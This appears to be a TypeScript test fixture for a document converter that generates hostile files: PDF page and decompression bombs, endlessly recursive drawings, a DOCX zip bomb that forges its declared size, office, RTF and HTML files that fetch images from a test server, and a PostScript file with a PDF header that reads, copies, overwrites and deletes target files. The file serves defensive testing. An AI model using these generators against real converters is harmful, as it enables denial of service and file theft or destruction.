/**
 * Hostile documents for the converter, written byte by byte here (nothing downloaded): PostScript
 * wearing a PDF header, office files that name images on a local web server, page bombs, bombs that
 * lie about their unpacked size, and PDFs that never finish drawing.
 */
import { constants, deflateSync } from "node:zlib";
import { writeZip } from "./zip-writer";

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
const CT = "http://schemas.openxmlformats.org/package/2006/content-types";
const REL = "http://schemas.openxmlformats.org/package/2006/relationships";
const OFFICE_DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/** A PDF from its objects (1-based, object 1 the catalog), with a correct cross-reference table. */
export function writePdf(objects: (string | Buffer)[]): Buffer {
  const parts: Buffer[] = [Buffer.from("%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", "latin1")];
  let length = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(length);
    const chunk = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`, "latin1"),
      Buffer.isBuffer(object) ? object : Buffer.from(object, "latin1"),
      Buffer.from("\nendobj\n", "latin1"),
    ]);
    parts.push(chunk);
    length += chunk.length;
  });
  let tail = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const off of offsets) tail += `${String(off).padStart(10, "0")} 00000 n \n`;
  tail += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n`;
  parts.push(Buffer.from(tail, "latin1"));
  return Buffer.concat(parts);
}

function stream(dict: string, data: Buffer): Buffer {
  return Buffer.concat([
    Buffer.from(`<< ${dict} /Length ${data.length} >>\nstream\n`, "latin1"),
    data,
    Buffer.from("\nendstream", "latin1"),
  ]);
}

/** `count` tiny pages sharing one content stream: honest about its size (pdfinfo counts them). */
export function manyPagesPdf(count: number): Buffer {
  const kids = Array.from({ length: count }, (_, i) => `${i + 4} 0 R`).join(" ");
  return writePdf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    `<< /Type /Pages /Count ${count} /Kids [${kids}] >>`,
    stream("", Buffer.from("0 0 1 1 re f")),
    ...Array.from({ length: count }, () => "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 72 72] /Contents 3 0 R >>"),
  ]);
}

/**
 * A page tree that says /Count 1 but holds `count` pages: a reader that trusts the count
 * (pdfinfo) sees one page, a renderer that walks the tree draws them all.
 */
export function lyingPageCountPdf(count: number): Buffer {
  const kids = Array.from({ length: count }, (_, i) => `${i + 4} 0 R`).join(" ");
  return writePdf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    `<< /Type /Pages /Count 1 /Kids [${kids}] >>`,
    stream("", Buffer.from("0 0 1 1 re f")),
    ...Array.from({ length: count }, () => "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 72 72] /Contents 3 0 R >>"),
  ]);
}

/** One page whose content stream is a few hundred KB of Flate that inflates to `inflatedMb` MB of drawing. */
export function flateBombPdf(inflatedMb: number): Buffer {
  const op = Buffer.from("0 0 612 792 re f\n");
  const chunk = Buffer.alloc(1024 * 1024);
  for (let i = 0; i + op.length <= chunk.length; i += op.length) op.copy(chunk, i);
  const packed = deflateSync(Buffer.concat(Array.from({ length: inflatedMb }, () => chunk)), {
    level: constants.Z_BEST_COMPRESSION,
  });
  return writePdf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
    stream("/Filter /FlateDecode", packed),
  ]);
}

/**
 * A page that never finishes: form 1 draws form 2 twice, form 2 draws form 3 twice, … 48 levels deep,
 * so a few KB ask for 2^48 rectangle fills.
 */
export function endlessPdf(levels = 48): Buffer {
  const first = 5;
  const forms = Array.from({ length: levels }, (_, i) => {
    const last = i === levels - 1;
    const body = last ? "0 0 1 1 re f" : "/F Do /F Do";
    const resources = last ? "" : `/Resources << /XObject << /F ${first + i + 1} 0 R >> >>`;
    return stream(`/Type /XObject /Subtype /Form /BBox [0 0 612 792] ${resources}`, Buffer.from(body));
  });
  return writePdf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /XObject << /F ${first} 0 R >> >> >>`,
    stream("", Buffer.from("/F Do")),
    ...forms,
  ]);
}

/**
 * PostScript that starts as a program and mentions `%PDF-` in its first KiB (the issue-16 file). It
 * lists its own folder (/job in the sandbox: proof it ran), then for each target it lists the folder, copies the file's text into /job/stolen.txt (its own output, which
 * the test reads) and onto the page, then tries to overwrite and to delete it.
 */
export function postscriptWearingPdfHeader(targets: string[]): Buffer {
  const steal = targets
    .map((t) => {
      const dir = t.slice(0, t.lastIndexOf("/"));
      return `
{ (${dir}/*) { out exch writestring out (\\n) writestring } 4096 string filenameforall } stopped pop
{ /f (${t}) (r) file def f 4096 string readstring pop /s exch def out s writestring
  72 y moveto s show /y y 20 sub def f closefile } stopped pop
{ /w (${t}) (w) file def w (overwritten by a hostile document) writestring w closefile } stopped pop
{ (${t}) deletefile } stopped pop`;
    })
    .join("\n");
  return Buffer.from(
    `%!PS-Adobe-3.0
% %PDF-1.7 (a PDF header for any reader that searches the first KiB)
/Courier findfont 10 scalefont setfont /y 700 def
/out { (/job/stolen.txt) (w) file } stopped { (%stdout) (w) file } if def
{ (/job/*) { out exch writestring out (\n) writestring } 4096 string filenameforall } stopped pop
${steal}
out closefile
showpage
`,
    "latin1",
  );
}

/** An ODT whose only content is an image and a link on `base` (a web server the test runs). */
export function odtWithExternalImage(base: string): Buffer {
  const ns =
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2"';
  return writeZip([
    { name: "mimetype", data: "application/vnd.oasis.opendocument.text", store: true },
    {
      name: "META-INF/manifest.xml",
      data: `${XML}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`,
    },
    {
      name: "content.xml",
      data: `${XML}<office:document-content ${ns}><office:body><office:text><text:p>Invoice <text:a xlink:type="simple" xlink:href="${base}/odt-link">details</text:a><draw:frame draw:name="i1" text:anchor-type="as-char" svg:width="2cm" svg:height="2cm"><draw:image xlink:href="${base}/odt-image.png" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p></office:text></office:body></office:document-content>`,
    },
  ]);
}

/** A DOCX with an externally linked picture, an INCLUDEPICTURE field and a hyperlink on `base`. */
export function docxWithExternalImage(base: string): Buffer {
  const w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
  return writeZip([
    {
      name: "[Content_Types].xml",
      data: `${XML}<Types xmlns="${CT}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
    },
    {
      name: "_rels/.rels",
      data: `${XML}<Relationships xmlns="${REL}"><Relationship Id="rId1" Type="${OFFICE_DOC}/officeDocument" Target="word/document.xml"/></Relationships>`,
    },
    {
      name: "word/_rels/document.xml.rels",
      data: `${XML}<Relationships xmlns="${REL}"><Relationship Id="rId5" Type="${OFFICE_DOC}/image" Target="${base}/docx-image.png" TargetMode="External"/><Relationship Id="rId6" Type="${OFFICE_DOC}/hyperlink" Target="${base}/docx-link" TargetMode="External"/></Relationships>`,
    },
    {
      name: "word/document.xml",
      data: `${XML}<w:document xmlns:w="${w}" xmlns:r="${OFFICE_DOC}" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"><w:body><w:p><w:r><w:t>Invoice</w:t></w:r><w:hyperlink r:id="rId6"><w:r><w:t>details</w:t></w:r></w:hyperlink></w:p><w:p><w:r><w:pict><v:shape id="s1" style="width:60pt;height:60pt"><v:imagedata r:id="rId5" o:title=""/></v:shape></w:pict></w:r></w:p><w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;${base}/docx-field.png&quot; \\d "><w:r><w:t>picture</w:t></w:r></w:fldSimple></w:p></w:body></w:document>`,
    },
  ]);
}

/** An RTF whose INCLUDEPICTURE field names an image on `base`. */
export function rtfWithExternalImage(base: string): Buffer {
  return Buffer.from(
    `{\\rtf1\\ansi Invoice {\\field{\\*\\fldinst INCLUDEPICTURE "${base}/rtf-image.png" \\\\d}{\\fldrslt picture}}\\par}`,
    "latin1",
  );
}

/** HTML naming an image, a stylesheet and a frame on `base`. */
export function htmlWithExternalImage(base: string): Buffer {
  return Buffer.from(
    `<!DOCTYPE html><html><head><link rel="stylesheet" href="${base}/html.css"></head><body><p>Invoice</p><img src="${base}/html-image.png"><iframe src="${base}/html-frame"></iframe></body></html>\n`,
  );
}

/**
 * A DOCX whose zip directory says document.xml is 2 KB while it inflates to `inflatedMb` MB (valid XML
 * padded with spaces) — the declared sizes pass the zip-bomb check, LibreOffice meets the truth.
 */
export function docxLyingAboutSize(inflatedMb: number): Buffer {
  const head = `${XML}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>bomb</w:t></w:r></w:p>`;
  const tail = "</w:body></w:document>";
  const padding = Buffer.alloc(inflatedMb * 1024 * 1024, " ");
  const real = Buffer.concat([Buffer.from(head), padding, Buffer.from(tail)]);
  const zip = writeZip([
    {
      name: "[Content_Types].xml",
      data: `${XML}<Types xmlns="${CT}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
    },
    {
      name: "_rels/.rels",
      data: `${XML}<Relationships xmlns="${REL}"><Relationship Id="rId1" Type="${OFFICE_DOC}/officeDocument" Target="word/document.xml"/></Relationships>`,
    },
    { name: "word/document.xml", data: real },
  ]);
  // Rewrite the declared (uncompressed) size of document.xml, in its local header and in the directory.
  const declared = 2048;
  for (const signature of [0x04034b50, 0x02014b50]) {
    const sig = Buffer.alloc(4);
    sig.writeUInt32LE(signature);
    let at = zip.indexOf(sig);
    while (at >= 0) {
      const nameOffset = signature === 0x04034b50 ? 30 : 46;
      const nameLength = zip.readUInt16LE(at + (signature === 0x04034b50 ? 26 : 28));
      const name = zip.toString("utf8", at + nameOffset, at + nameOffset + nameLength);
      if (name === "word/document.xml") zip.writeUInt32LE(declared, at + (signature === 0x04034b50 ? 22 : 24));
      at = zip.indexOf(sig, at + 4);
    }
  }
  return zip;
}

/** A little-endian TIFF header and one directory declaring width × height pixels, with no image data. */
export function tiffDeclaring(width: number, height: number): Buffer {
  const entries: [number, number, number][] = [
    [256, 4, width], // ImageWidth (LONG)
    [257, 4, height], // ImageLength
    [258, 3, 1], // BitsPerSample
    [259, 3, 1], // Compression: none
    [262, 3, 0], // Photometric: min-is-white
    [273, 4, 8], // StripOffsets
    [278, 4, height], // RowsPerStrip
    [279, 4, 1], // StripByteCounts
  ];
  const ifd = Buffer.alloc(2 + entries.length * 12 + 4);
  ifd.writeUInt16LE(entries.length, 0);
  entries.forEach(([tag, type, value], i) => {
    const at = 2 + i * 12;
    ifd.writeUInt16LE(tag, at);
    ifd.writeUInt16LE(type, at + 2);
    ifd.writeUInt32LE(1, at + 4);
    if (type === 3) ifd.writeUInt16LE(value, at + 8);
    else ifd.writeUInt32LE(value, at + 8);
  });
  const header = Buffer.from([0x49, 0x49, 0x2a, 0x00, 16, 0, 0, 0]);
  return Buffer.concat([header, Buffer.alloc(8), ifd]);
}
